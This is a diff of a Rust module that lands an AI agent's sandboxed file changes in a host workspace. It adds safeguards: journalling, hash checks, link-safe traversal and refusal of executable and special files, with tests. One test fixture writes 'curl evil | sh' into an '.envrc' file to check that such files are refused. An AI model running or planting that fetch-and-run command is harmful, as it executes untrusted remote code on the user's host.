@@ -1,12 +1,37 @@
-//! Landing an agent's changes in the real workspace: files that would execute on the host are
-//! refused unless allowed, host edits made during the session are conflicts, and every file is
-//! replaced atomically (temp file + rename).
+//! Landing an agent's changes in the real workspace.
+//!
+//! The order of work is fixed so that a merge that fails or is killed leaves the workspace either
+//! untouched or in a state a re-run completes:
+//! 1. refuse, before anything is written: unsafe paths, files that would execute on the host
+//!    (unless allowed), and special files (FIFOs, sockets, devices), each by name;
+//! 2. validate every source: regular files are opened with `O_NONBLOCK | O_NOFOLLOW` (a FIFO
+//!    never blocks the merge), their type checked with `fstat`, their content hashed; links are
+//!    read; and every destination parent is checked to be a real directory on the host;
+//! 3. record the plan in a journal (the session's `merge.journal`), then apply: deletions first,
+//!    deepest first (so a directory is emptied before it is replaced by a link), then
+//!    directories, files and links in path order. Destinations are reached through directory
+//!    descriptors opened one component at a time with `O_NOFOLLOW`, so no link on the host is
+//!    ever followed; each file is written to a temporary name, its content re-hashed against
+//!    the validated hash, synced and renamed into place; each landed change is journalled.
+//!
+//! A re-run treats a path whose host state already equals the agent's version as landed, not as
+//! a conflict, and says which files an interrupted run had landed.
 
+use std::ffi::{CString, OsStr};
 use std::fs;
-use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
+use std::io::{Read, Write};
+use std::os::fd::{AsFd, OwnedFd};
+use std::os::unix::ffi::OsStrExt;
+use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
 use std::path::{Component, Path, PathBuf};
 
-use crate::changes::{Change, ChangeKind};
+use nix::errno::Errno;
+use nix::fcntl::{openat, renameat, OFlag};
+use nix::sys::stat::{fchmod, fstatat, mkdirat, Mode, SFlag};
+use nix::unistd::{symlinkat, unlinkat, UnlinkatFlags};
+use sha2::{Digest, Sha256};
+
+use crate::changes::{open_regular, same, Change, ChangeKind, EntryType};
 use crate::SessionError;
 
 /// Why a path executes on the host (`None` if it does not).
@@ -73,8 +98,10 @@ pub fn is_git_internal(path: &Path) -> bool {
 /// The outcome of a merge.
 #[derive(Debug, Default)]
 pub struct MergeReport {
+    /// Changes now in place, sorted by path (landed by this run, or found already landed).
     pub applied: Vec<Change>,
-    pub refused: Vec<(Change, &'static str)>,
+    /// Changes refused up front, with the reason; nothing was written when this is not empty.
+    pub refused: Vec<(Change, String)>,
 }
 
 /// A path that is safe to join under a root: relative, no `..`.
@@ -82,16 +109,55 @@ fn safe_rel(p: &Path) -> bool {
     p.components().all(|c| matches!(c, Component::Normal(_)))
 }
 
+/// The first proper prefix of `rel` that is not a real directory on the host (a link, a file,
+/// anything else), if any. Prefixes are checked from the root down, so no link is followed.
+fn host_blocker(workspace: &Path, rel: &Path) -> Option<PathBuf> {
+    let mut prefix = PathBuf::new();
+    let parent = rel.parent()?;
+    for c in parent.components() {
+        prefix.push(c);
+        match fs::symlink_metadata(workspace.join(&prefix)) {
+            Ok(m) if m.is_dir() => {}
+            Ok(_) => return Some(prefix),
+            Err(_) => return None, // missing: created by the merge
+        }
+    }
+    None
+}
+
+/// Whether the host already has the agent's version of `c` (landed by an interrupted merge, or
+/// the same edit made on the host): nothing to do and nothing to conflict with.
+pub fn in_place(workspace: &Path, upper: &Path, c: &Change) -> bool {
+    if host_blocker(workspace, &c.path).is_some() {
+        return false;
+    }
+    let host = workspace.join(&c.path);
+    match c.kind {
+        ChangeKind::Deleted => fs::symlink_metadata(&host).is_err(),
+        _ if c.entry.is_special() => false,
+        _ => same(&host, &upper.join(&c.path)).unwrap_or(false),
+    }
+}
+
 /// Conflicts: host paths changed after `since` (seconds since the epoch) that the agent changed
-/// too, and paths the agent added that the host has created meanwhile.
-pub fn conflicts(workspace: &Path, changes: &[Change], since: i64) -> Vec<PathBuf> {
+/// too, paths the agent added that the host has created meanwhile, and paths below a directory
+/// the host replaced with a link or a file. A path already in the agent's state is not one.
+pub fn conflicts(workspace: &Path, upper: &Path, changes: &[Change], since: i64) -> Vec<PathBuf> {
     changes
         .iter()
+        .filter(|c| !in_place(workspace, upper, c))
         .filter(|c| {
+            if host_blocker(workspace, &c.path).is_some() {
+                return true;
+            }
             let host = workspace.join(&c.path);
             match fs::symlink_metadata(&host) {
                 Ok(m) => match c.kind {
                     ChangeKind::Added => !c.dir,
+                    // A directory the agent replaced: what the host changed inside it shows up
+                    // as the deletions listed below it, each checked on its own; the directory's
+                    // own times also move when an interrupted merge deleted those.
+                    ChangeKind::Modified if c.was == Some(EntryType::Dir) && m.is_dir() => false,
                     _ => m.mtime() > since || m.ctime() > since,
                 },
                 // Deleted on the host meanwhile while the agent modified it.
@@ -102,14 +168,84 @@ pub fn conflicts(workspace: &Path, changes: &[Change], since: i64) -> Vec<PathBu
         .collect()
 }
 
-/// Applies `changes` from `upper` to `workspace`. Paths that execute on the host are refused
-/// unless `allow_exec`; nothing is written when there are refusals and `allow_exec` is off
-/// (all or nothing). The caller checks conflicts first.
+/// A validated source.
+#[derive(Debug)]
+enum Source {
+    Delete,
+    Dir,
+    Link(PathBuf),
+    File {
+        mode: u32,
+        len: u64,
+        dev: u64,
+        ino: u64,
+        sha256: [u8; 32],
+    },
+}
+
+fn sha256_of(f: &mut fs::File, path: &Path) -> Result<[u8; 32], SessionError> {
+    let mut h = Sha256::new();
+    let mut buf = vec![0u8; 64 * 1024];
+    loop {
+        let n = f
+            .read(&mut buf)
+            .map_err(|e| SessionError::io("cannot read", path, e))?;
+        if n == 0 {
+            return Ok(h.finalize().into());
+        }
+        h.update(&buf[..n]);
+    }
+}
+
+/// Checks the agent's version of `c` without blocking or following a link, and fingerprints it.
+fn validate(upper: &Path, c: &Change) -> Result<Source, SessionError> {
+    if c.kind == ChangeKind::Deleted {
+        return Ok(Source::Delete);
+    }
+    let src = upper.join(&c.path);
+    let m = fs::symlink_metadata(&src).map_err(|e| SessionError::io("cannot read", &src, e))?;
+    let t = EntryType::of(&m);
+    if t != c.entry {
+        return Err(SessionError::Refused(format!(
+            "{} changed while merging (now {}); nothing was merged",
+            src.display(),
+            t.describe()
+        )));
+    }
+    match t {
+        EntryType::Dir => Ok(Source::Dir),
+        EntryType::Symlink => fs::read_link(&src)
+            .map(Source::Link)
+            .map_err(|e| SessionError::io("cannot read", &src, e)),
+        EntryType::File => {
+            let (mut f, m) = open_regular(&src)?;
+            let sha256 = sha256_of(&mut f, &src)?;
+            Ok(Source::File {
+                mode: m.mode() & 0o777,
+                len: m.len(),
+                dev: m.dev(),
+                ino: m.ino(),
+                sha256,
+            })
+        }
+        other => Err(SessionError::Refused(format!(
+            "{} is {}; nothing was merged",
+            src.display(),
+            other.describe()
+        ))),
+    }
+}
+
+/// Applies `changes` from `upper` to `workspace`, journalling progress in `journal`. Paths that
+/// execute on the host are refused unless `allow_exec`, special files always; nothing is
+/// written when anything is refused or a source or destination fails validation. The caller
+/// checks conflicts first.
 pub fn apply(
     workspace: &Path,
     upper: &Path,
     changes: &[Change],
     allow_exec: bool,
+    journal: &Path,
 ) -> Result<MergeReport, SessionError> {
     let mut report = MergeReport::default();
     for c in changes {
@@ -119,80 +255,391 @@ pub fn apply(
                 c.path.display()
             )));
         }
-        if let (Some(why), false) = (exec_reason(&c.path), allow_exec) {
-            report.refused.push((c.clone(), why));
+        if c.kind != ChangeKind::Deleted && c.entry.is_special() {
+            report.refused.push((
+                c.clone(),
+                format!(
+                    "{}: only files, directories and links are merged",
+                    c.entry.describe()
+                ),
+            ));
+        } else if let (Some(why), false) = (exec_reason(&c.path), allow_exec) {
+            report.refused.push((c.clone(), why.to_string()));
         }
     }
     if !report.refused.is_empty() {
         return Ok(report);
     }
-    for c in changes {
-        if is_git_internal(&c.path) {
-            continue;
-        }
-        let dst = workspace.join(&c.path);
-        match c.kind {
-            ChangeKind::Deleted => {
-                let r = if c.dir {
-                    fs::remove_dir_all(&dst)
-                } else {
-                    fs::remove_file(&dst)
-                };
-                match r {
-                    Ok(()) => {}
-                    Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
-                    Err(e) => return Err(SessionError::io("cannot delete", &dst, e)),
-                }
-            }
-            ChangeKind::Added | ChangeKind::Modified => {
-                let src = upper.join(&c.path);
-                copy_in(&src, &dst, c.dir)?;
-            }
-        }
-        report.applied.push(c.clone());
+    let todo: Vec<&Change> = changes
+        .iter()
+        .filter(|c| !is_git_internal(&c.path) && !in_place(workspace, upper, c))
+        .collect();
+    let mut plan = Vec::with_capacity(todo.len());
+    for c in &todo {
+        plan.push((*c, validate(upper, c)?));
     }
+    check_destinations(workspace, &todo)?;
+    plan.sort_by(|(a, _), (b, _)| apply_order(a, b));
+    let mut log = Journal::begin(journal, plan.len())?;
+    fault_point("merge-planned");
+    let root = open_root(workspace)?;
+    for (c, src) in &plan {
+        land(&root, workspace, upper, c, src)?;
+        log.landed(c, src)?;
+        report.applied.push((*c).clone());
+        fault_point("merge-landed");
+    }
+    // Already in place (an interrupted run, or the same edit on the host): reported as landed.
+    for c in changes {
+        if !is_git_internal(&c.path) && !todo.iter().any(|t| t.path == c.path) {
+            report.applied.push(c.clone());
+        }
+    }
+    report.applied.sort_by(|a, b| a.path.cmp(&b.path));
     Ok(report)
 }
 
-fn copy_in(src: &Path, dst: &Path, dir: bool) -> Result<(), SessionError> {
-    let m = fs::symlink_metadata(src).map_err(|e| SessionError::io("cannot read", src, e))?;
-    if let Some(parent) = dst.parent() {
-        fs::create_dir_all(parent).map_err(|e| SessionError::io("cannot create", parent, e))?;
+/// Deletions first, deepest first; then everything else in path order (parents first).
+fn apply_order(a: &Change, b: &Change) -> std::cmp::Ordering {
+    let del = |c: &Change| c.kind == ChangeKind::Deleted;
+    match (del(a), del(b)) {
+        (true, false) => std::cmp::Ordering::Less,
+        (false, true) => std::cmp::Ordering::Greater,
+        (true, true) => b.path.cmp(&a.path),
+        (false, false) => a.path.cmp(&b.path),
     }
-    if dir || m.is_dir() {
-        if fs::symlink_metadata(dst).is_ok_and(|d| !d.is_dir()) {
-            fs::remove_file(dst).map_err(|e| SessionError::io("cannot replace", dst, e))?;
+}
+
+/// Every destination's parents must be real directories on the host, or become ones through
+/// the plan itself (a link the agent replaced by a directory).
+fn check_destinations(workspace: &Path, todo: &[&Change]) -> Result<(), SessionError> {
+    for c in todo {
+        if let Some(p) = host_blocker(workspace, &c.path) {
+            let made_dir = todo
+                .iter()
+                .any(|d| d.path == p && d.entry == EntryType::Dir && d.kind != ChangeKind::Deleted);
+            if !made_dir {
+                return Err(SessionError::Refused(format!(
+                    "{} in the workspace is no longer a directory (a link or a file replaced it on \
+                     the host), so {} cannot be merged without writing through it; nothing was \
+                     merged. Restore the directory, or resolve by hand",
+                    workspace.join(&p).display(),
+                    c.path.display()
+                )));
+            }
         }
-        return fs::create_dir_all(dst).map_err(|e| SessionError::io("cannot create", dst, e));
     }
-    let tmp = dst.with_file_name(format!(
-        ".{}.airlock-merge",
-        dst.file_name()
-            .map(|n| n.to_string_lossy())
-            .unwrap_or_default()
-    ));
-    let _ = fs::remove_file(&tmp);
-    if m.file_type().is_symlink() {
-        let target = fs::read_link(src).map_err(|e| SessionError::io("cannot read", src, e))?;
-        symlink(&target, &tmp).map_err(|e| SessionError::io("cannot write", &tmp, e))?;
-    } else {
-        fs::copy(src, &tmp).map_err(|e| SessionError::io("cannot write", &tmp, e))?;
-        let mode = m.permissions().mode() & 0o777;
-        fs::set_permissions(&tmp, fs::Permissions::from_mode(mode))
-            .map_err(|e| SessionError::io("cannot set mode of", &tmp, e))?;
-        fs::File::open(&tmp)
-            .and_then(|f| f.sync_all())
-            .map_err(|e| SessionError::io("cannot sync", &tmp, e))?;
+    Ok(())
+}
+
+fn io(what: &'static str, p: &Path, e: Errno) -> SessionError {
+    SessionError::io(what, p, std::io::Error::from(e))
+}
+
+fn open_root(workspace: &Path) -> Result<OwnedFd, SessionError> {
+    openat(
+        nix::fcntl::AT_FDCWD,
+        workspace,
+        OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
+        Mode::empty(),
+    )
+    .map_err(|e| io("cannot open", workspace, e))
+}
+
+/// The directory holding `rel`, reached one component at a time without following links;
+/// missing directories are created.
+fn open_parent(root: &OwnedFd, workspace: &Path, rel: &Path) -> Result<OwnedFd, SessionError> {
+    let mut cur = root
+        .try_clone()
+        .map_err(|e| SessionError::io("cannot open", workspace, e))?;
+    let mut shown = workspace.to_path_buf();
+    for comp in rel.parent().unwrap_or(Path::new("")).components() {
+        let Component::Normal(n) = comp else {
+            return Err(SessionError::Refused(format!(
+                "refusing the unsafe path {}",
+                rel.display()
+            )));
+        };
+        shown.push(n);
+        let flags = OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
+        let next = match openat(&cur, n, flags, Mode::empty()) {
+            Ok(fd) => fd,
+            Err(Errno::ENOENT) => {
+                match mkdirat(&cur, n, Mode::from_bits_truncate(0o755)) {
+                    Ok(()) | Err(Errno::EEXIST) => {}
+                    Err(e) => return Err(io("cannot create", &shown, e)),
+                }
+                openat(&cur, n, flags, Mode::empty()).map_err(|e| io("cannot open", &shown, e))?
+            }
+            Err(Errno::ELOOP | Errno::ENOTDIR) => {
+                return Err(SessionError::Refused(format!(
+                    "{} is not a directory (a link or a file); airlock does not write through it",
+                    shown.display()
+                )))
+            }
+            Err(e) => return Err(io("cannot open", &shown, e)),
+        };
+        cur = next;
     }
-    if fs::symlink_metadata(dst).is_ok_and(|d| d.is_dir()) {
-        fs::remove_dir_all(dst).map_err(|e| SessionError::io("cannot replace", dst, e))?;
+    Ok(cur)
+}
+
+/// Removes `name` in `dir` whatever it is, never following a link: a directory is emptied
+/// through descriptors first.
+fn remove_at(dir: &OwnedFd, name: &OsStr, shown: &Path) -> Result<(), SessionError> {
+    let flags = OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
+    match openat(dir, name, flags, Mode::empty()) {
+        Err(Errno::ENOENT) => Ok(()),
+        Err(Errno::ELOOP | Errno::ENOTDIR) => match unlinkat(dir, name, UnlinkatFlags::NoRemoveDir)
+        {
+            Ok(()) | Err(Errno::ENOENT) => Ok(()),
+            Err(e) => Err(io("cannot delete", shown, e)),
+        },
+        Err(e) => Err(io("cannot open", shown, e)),
+        Ok(fd) => {
+            let sub = fd
+                .try_clone()
+                .map_err(|e| SessionError::io("cannot open", shown, e))?;
+            let mut d = nix::dir::Dir::from_fd(fd).map_err(|e| io("cannot read", shown, e))?;
+            let names: Vec<CString> = d
+                .iter()
+                .flatten()
+                .map(|e| e.file_name().to_owned())
+                .filter(|n| n.as_bytes() != b"." && n.as_bytes() != b"..")
+                .collect();
+            drop(d);
+            for n in names {
+                let child = OsStr::from_bytes(n.as_bytes());
+                remove_at(&sub, child, &shown.join(child))?;
+            }
+            match unlinkat(dir, name, UnlinkatFlags::RemoveDir) {
+                Ok(()) | Err(Errno::ENOENT) => Ok(()),
+                Err(e) => Err(io("cannot delete", shown, e)),
+            }
+        }
     }
-    fs::rename(&tmp, dst).map_err(|e| SessionError::io("cannot write", dst, e))
+}
+
+fn is_real_dir(dir: &OwnedFd, name: &OsStr) -> bool {
+    fstatat(dir, name, nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW)
+        .is_ok_and(|st| SFlag::from_bits_truncate(st.st_mode) & SFlag::S_IFMT == SFlag::S_IFDIR)
+}
+
+/// The temporary name a file or link is written under before it is renamed into place.
+fn tmp_name(name: &OsStr) -> std::ffi::OsString {
+    let mut t = std::ffi::OsString::from(".");
+    t.push(name);
+    t.push(".airlock-merge");
+    t
+}
+
+/// Lands one validated change.
+fn land(
+    root: &OwnedFd,
+    workspace: &Path,
+    upper: &Path,
+    c: &Change,
+    src: &Source,
+) -> Result<(), SessionError> {
+    let shown = workspace.join(&c.path);
+    let name = c
+        .path
+        .file_name()
+        .ok_or_else(|| SessionError::Refused(format!("refusing the path {}", c.path.display())))?;
+    let parent = open_parent(root, workspace, &c.path)?;
+    match src {
+        Source::Delete => remove_at(&parent, name, &shown)?,
+        Source::Dir => {
+            if !is_real_dir(&parent, name) {
+                remove_at(&parent, name, &shown)?;
+                match mkdirat(&parent, name, Mode::from_bits_truncate(0o755)) {
+                    Ok(()) | Err(Errno::EEXIST) => {}
+                    Err(e) => return Err(io("cannot create", &shown, e)),
+                }
+            }
+        }
+        Source::Link(target) => {
+            let tmp = tmp_name(name);
+            let _ = unlinkat(&parent, tmp.as_os_str(), UnlinkatFlags::NoRemoveDir);
+            symlinkat(target.as_path(), &parent, tmp.as_os_str())
+                .map_err(|e| io("cannot write", &shown, e))?;
+            replace(&parent, &tmp, name, &shown)?;
+        }
+        Source::File { .. } => {
+            let tmp = tmp_name(name);
+            let _ = unlinkat(&parent, tmp.as_os_str(), UnlinkatFlags::NoRemoveDir);
+            if let Err(e) = write_tmp(&parent, &tmp, &upper.join(&c.path), src, &shown) {
+                let _ = unlinkat(&parent, tmp.as_os_str(), UnlinkatFlags::NoRemoveDir);
+                return Err(e);
+            }
+            fault_point("merge-tmp-written");
+            replace(&parent, &tmp, name, &shown)?;
+        }
+    }
+    // The rename (or unlink) is durable once the directory is.
+    fs::File::from(parent)
+        .sync_all()
+        .map_err(|e| SessionError::io("cannot sync", &shown, e))
+}
+
+/// Writes the temporary copy of a validated file and checks it is still what was validated.
+fn write_tmp(
+    parent: &OwnedFd,
+    tmp: &OsStr,
+    src: &Path,
+    expect: &Source,
+    shown: &Path,
+) -> Result<(), SessionError> {
+    let Source::File {
+        mode,
+        len,
+        dev,
+        ino,
+        sha256,
+    } = expect
+    else {
+        return Ok(());
+    };
+    let (mut from, m) = open_regular(src)?;
+    if (m.dev(), m.ino(), m.len()) != (*dev, *ino, *len) {
+        return Err(SessionError::Refused(format!(
+            "{} changed while merging; run the merge again",
+            src.display()
+        )));
+    }
+    let fd = openat(
+        parent,
+        tmp,
+        OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
+        Mode::from_bits_truncate(0o600),
+    )
+    .map_err(|e| io("cannot write", shown, e))?;
+    let mut to = fs::File::from(fd);
+    let mut h = Sha256::new();
+    let mut buf = vec![0u8; 64 * 1024];
+    loop {
+        let n = from
+            .read(&mut buf)
+            .map_err(|e| SessionError::io("cannot read", src, e))?;
+        if n == 0 {
+            break;
+        }
+        h.update(&buf[..n]);
+        to.write_all(&buf[..n])
+            .map_err(|e| SessionError::io("cannot write", shown, e))?;
+    }
+    let got: [u8; 32] = h.finalize().into();
+    if &got != sha256 {
+        return Err(SessionError::Refused(format!(
+            "{} changed while merging; run the merge again",
+            src.display()
+        )));
+    }
+    fchmod(to.as_fd(), Mode::from_bits_truncate(*mode))
+        .map_err(|e| io("cannot set mode of", shown, e))?;
+    to.sync_all()
+        .map_err(|e| SessionError::io("cannot sync", shown, e))
+}
+
+/// Renames `tmp` over `name` in `dir`; a directory in the way is removed first (its contents
+/// were deleted by the plan; anything left is removed without following links).
+fn replace(dir: &OwnedFd, tmp: &OsStr, name: &OsStr, shown: &Path) -> Result<(), SessionError> {
+    if is_real_dir(dir, name) {
+        remove_at(dir, name, shown)?;
+    }
+    renameat(dir, tmp, dir, name).map_err(|e| io("cannot write", shown, e))
+}
+
+/// The session's record of a merge in progress: the plan's size, then one line per landed
+/// change with its content hash, each synced before the next change is applied.
+#[derive(Debug)]
+struct Journal {
+    file: fs::File,
+    path: PathBuf,
+}
+
+impl Journal {
+    fn begin(path: &Path, n: usize) -> Result<Journal, SessionError> {
+        let mut file = fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .mode(0o600)
+            .custom_flags(libc::O_NOFOLLOW | libc::O_CLOEXEC)
+            .open(path)
+            .map_err(|e| SessionError::io("cannot write", path, e))?;
+        writeln!(file, "begin\t{n}")
+            .and_then(|()| file.sync_all())
+            .map_err(|e| SessionError::io("cannot write", path, e))?;
+        Ok(Journal {
+            file,
+            path: path.to_path_buf(),
+        })
+    }
+
+    fn landed(&mut self, c: &Change, src: &Source) -> Result<(), SessionError> {
+        let hash = match src {
+            Source::File { sha256, .. } => hex::encode(sha256),
+            Source::Link(t) => format!("link:{}", t.display()),
+            Source::Dir => "dir".into(),
+            Source::Delete => "-".into(),
+        };
+        let kind = format!("{:?}", c.kind).to_lowercase();
+        let mut line = format!("landed\t{kind}\t{hash}\t").into_bytes();
+        line.extend_from_slice(c.path.as_os_str().as_bytes());
+        line.push(b'\n');
+        self.file
+            .write_all(&line)
+            .and_then(|()| self.file.sync_all())
+            .map_err(|e| SessionError::io("cannot write", &self.path, e))
+    }
+}
+
+/// The paths an interrupted merge recorded as landed in `journal` (empty when there is none).
+pub fn interrupted(journal: &Path) -> Vec<PathBuf> {
+    let Ok(bytes) = fs::read(journal) else {
+        return Vec::new();
+    };
+    let mut out: Vec<PathBuf> = bytes
+        .split(|b| *b == b'\n')
+        .filter_map(|l| {
+            let mut f = l.splitn(4, |b| *b == b'\t');
+            (f.next()? == b"landed").then_some(())?;
+            let (_kind, _hash, path) = (f.next()?, f.next()?, f.next()?);
+            Some(PathBuf::from(OsStr::from_bytes(path)))
+        })
+        .collect();
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// Test hook: a debug build killed by SIGKILL at the `n`th time it reaches `label`
+/// (`AIRLOCK_TEST_FAULT=label[:n]`), to check what a merge killed half-way leaves. Release
+/// builds ignore it.
+fn fault_point(label: &str) {
+    #[cfg(debug_assertions)]
+    {
+        use std::sync::atomic::{AtomicU32, Ordering};
+        static HITS: AtomicU32 = AtomicU32::new(0);
+        let Ok(v) = std::env::var("AIRLOCK_TEST_FAULT") else {
+            return;
+        };
+        let (want, n) = match v.split_once(':') {
+            Some((l, n)) => (l.to_string(), n.parse::<u32>().unwrap_or(1)),
+            None => (v.clone(), 1),
+        };
+        if want == label && HITS.fetch_add(1, Ordering::SeqCst) + 1 == n {
+            let _ = nix::sys::signal::raise(nix::sys::signal::Signal::SIGKILL);
+        }
+    }
+    #[cfg(not(debug_assertions))]
+    let _ = label;
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::changes::EntryType;
 
     #[test]
     fn exec_files_are_recognised() {
@@ -227,22 +674,15 @@ mod tests {
         fs::write(up.join("ok.txt"), "ok").expect("write");
         fs::write(up.join(".envrc"), "curl evil | sh").expect("write");
         let ch = vec![
-            Change {
-                path: ".envrc".into(),
-                kind: ChangeKind::Added,
-                dir: false,
-            },
-            Change {
-                path: "ok.txt".into(),
-                kind: ChangeKind::Added,
-                dir: false,
-            },
+            Change::new(".envrc".into(), ChangeKind::Added, EntryType::File),
+            Change::new("ok.txt".into(), ChangeKind::Added, EntryType::File),
         ];
-        let r = apply(&ws, &up, &ch, false).expect("apply");
+        let j = t.path().join("journal");
+        let r = apply(&ws, &up, &ch, false, &j).expect("apply");
         assert_eq!(r.refused.len(), 1);
         assert!(r.applied.is_empty());
         assert!(!ws.join("ok.txt").exists() && !ws.join(".envrc").exists());
-        let r = apply(&ws, &up, &ch, true).expect("apply");
+        let r = apply(&ws, &up, &ch, true, &j).expect("apply");
         assert_eq!(r.applied.len(), 2);
         assert_eq!(fs::read_to_string(ws.join("ok.txt")).expect("read"), "ok");
     }
@@ -251,12 +691,230 @@ mod tests {
     fn host_edits_after_the_start_conflict() {
         let t = tempfile::tempdir().expect("tempdir");
         fs::write(t.path().join("f.txt"), "host").expect("write");
-        let ch = vec![Change {
-            path: "f.txt".into(),
-            kind: ChangeKind::Modified,
-            dir: false,
-        }];
-        assert!(conflicts(t.path(), &ch, i64::MAX).is_empty());
-        assert_eq!(conflicts(t.path(), &ch, 0), vec![PathBuf::from("f.txt")]);
+        let up = tempfile::tempdir().expect("tempdir");
+        fs::write(up.path().join("f.txt"), "agent").expect("write");
+        let ch = vec![Change::new(
+            "f.txt".into(),
+            ChangeKind::Modified,
+            EntryType::File,
+        )];
+        assert!(conflicts(t.path(), up.path(), &ch, i64::MAX).is_empty());
+        assert_eq!(
+            conflicts(t.path(), up.path(), &ch, 0),
+            vec![PathBuf::from("f.txt")]
+        );
+        // The host already has the agent's version (an interrupted merge landed it): no conflict.
+        fs::write(t.path().join("f.txt"), "agent").expect("write");
+        assert!(conflicts(t.path(), up.path(), &ch, 0).is_empty());
+    }
+
+    fn tree(root: &Path) -> Vec<(PathBuf, String)> {
+        let mut out = Vec::new();
+        let mut stack = vec![root.to_path_buf()];
+        while let Some(d) = stack.pop() {
+            for e in fs::read_dir(&d).expect("read_dir").flatten() {
+                let p = e.path();
+                let m = fs::symlink_metadata(&p).expect("stat");
+                let what = if m.is_dir() {
+                    stack.push(p.clone());
+                    "dir".to_string()
+                } else if m.file_type().is_symlink() {
+                    format!("-> {}", fs::read_link(&p).expect("link").display())
+                } else if m.is_file() {
+                    fs::read_to_string(&p).unwrap_or_default()
+                } else {
+                    "special".to_string()
+                };
+                out.push((p.strip_prefix(root).expect("prefix").to_path_buf(), what));
+            }
+        }
+        out.sort();
+        out
+    }
+
+    /// A FIFO, a socket and (where it can be made) a device in the upper layer: each listed as
+    /// what it is, the merge refused by name up front, nothing written, nothing opened.
+    #[test]
+    fn special_files_are_refused_up_front_and_never_opened() {
+        use crate::changes::changes;
+        type Make = (&'static str, fn(&Path));
+        let mut kinds: Vec<Make> = vec![
+            ("pipe", |p| {
+                nix::unistd::mkfifo(p, Mode::S_IRUSR | Mode::S_IWUSR).expect("mkfifo")
+            }),
+            ("sock", |p| {
+                std::mem::forget(std::os::unix::net::UnixListener::bind(p).expect("bind"))
+            }),
+        ];
+        let dev = |p: &Path| {
+            nix::sys::stat::mknod(
+                p,
+                SFlag::S_IFCHR,
+                Mode::S_IRUSR,
+                nix::sys::stat::makedev(1, 3),
+            )
+            .expect("mknod")
+        };
+        let probe = tempfile::tempdir().expect("tempdir");
+        if nix::sys::stat::mknod(
+            &probe.path().join("d"),
+            SFlag::S_IFCHR,
+            Mode::S_IRUSR,
+            nix::sys::stat::makedev(1, 3),
+        )
+        .is_ok()
+        {
+            kinds.push(("chardev", dev));
+        } else {
+            eprintln!("skipping the character-device variant: mknod is not permitted here");
+        }
+        for (name, make) in kinds {
+            let t = tempfile::tempdir().expect("tempdir");
+            let (ws, up) = (t.path().join("ws"), t.path().join("up"));
+            fs::create_dir_all(&ws).expect("mkdir");
+            fs::create_dir_all(&up).expect("mkdir");
+            fs::write(ws.join("a.txt"), "host\n").expect("write");
+            fs::write(up.join("a.txt"), "changed\n").expect("write");
+            make(&up.join(name));
+            fs::write(up.join("zz.txt"), "z\n").expect("write");
+            let before = tree(&ws);
+            let ch = changes(&ws, &up).expect("changes");
+            let special = ch.iter().find(|c| c.path == Path::new(name)).expect(name);
+            assert!(special.entry.is_special(), "{name}: {special:?}");
+            let shown = crate::changes::unified(&ws, &up, special);
+            assert!(shown.contains("special file"), "{name}: {shown}");
+            let r = apply(&ws, &up, &ch, false, &t.path().join("j")).expect("apply");
+            assert_eq!(r.refused.len(), 1, "{name}: {:?}", r.refused);
+            assert_eq!(r.refused[0].0.path, Path::new(name));
+            assert!(r.applied.is_empty(), "{name}");
+            assert_eq!(tree(&ws), before, "{name}: a refused merge wrote something");
+            assert!(
+                !t.path().join("j").exists(),
+                "{name}: journal before validation"
+            );
+        }
+    }
+
+    /// A FIFO swapped in for a regular file after listing is refused without blocking.
+    #[test]
+    fn a_fifo_swapped_in_after_listing_never_blocks() {
+        let t = tempfile::tempdir().expect("tempdir");
+        let (ws, up) = (t.path().join("ws"), t.path().join("up"));
+        fs::create_dir_all(&ws).expect("mkdir");
+        fs::create_dir_all(&up).expect("mkdir");
+        nix::unistd::mkfifo(&up.join("f.txt"), Mode::S_IRUSR | Mode::S_IWUSR).expect("mkfifo");
+        let ch = vec![Change::new(
+            "f.txt".into(),
+            ChangeKind::Added,
+            EntryType::File,
+        )];
+        let start = std::time::Instant::now();
+        let r = apply(&ws, &up, &ch, false, &t.path().join("j"));
+        assert!(r.is_err(), "{r:?}");
+        assert!(start.elapsed() < std::time::Duration::from_secs(5));
+        assert!(open_regular(&up.join("f.txt")).is_err());
+        assert!(!ws.join("f.txt").exists());
+    }
+
+    /// A directory the agent replaced by a link: not a conflict when the host left it alone, and
+    /// the directory's contents are deleted before the link appears (never through it).
+    #[test]
+    fn a_directory_replaced_by_a_link_lands_safely_without_a_false_conflict() {
+        use crate::changes::changes;
+        let t = tempfile::tempdir().expect("tempdir");
+        let (ws, up, outside) = (
+            t.path().join("ws"),
+            t.path().join("up"),
+            t.path().join("out"),
+        );
+        for d in [&ws.join("d/sub"), &up, &outside] {
+            fs::create_dir_all(d).expect("mkdir");
+        }
+        fs::write(ws.join("d/x"), "x").expect("write");
+        fs::write(ws.join("d/sub/y"), "y").expect("write");
+        fs::write(outside.join("x"), "outside").expect("write");
+        std::os::unix::fs::symlink(&outside, up.join("d")).expect("symlink");
+        let ch = changes(&ws, &up).expect("changes");
+        let d = ch.iter().find(|c| c.path == Path::new("d")).expect("d");
+        assert_eq!(d.kind, ChangeKind::Modified, "{ch:?}");
+        assert_eq!(d.was, Some(EntryType::Dir));
+        let now = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
+            .unwrap_or(0);
+        let since = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map(|d| i64::try_from(d.as_secs()).unwrap_or(i64::MAX))
+            .unwrap_or(0)
+            + 5; // the session "started" after the host's files were written
+        assert!(conflicts(&ws, &up, &ch, since).is_empty(), "false conflict");
+        // An interrupted merge deleted what was below the directory (moving its times): the
+        // directory itself is still not a conflict, and a file the host added in it is one.
+        // (The session "started" in the second the host files were written; the deletion lands
+        // a second later.)
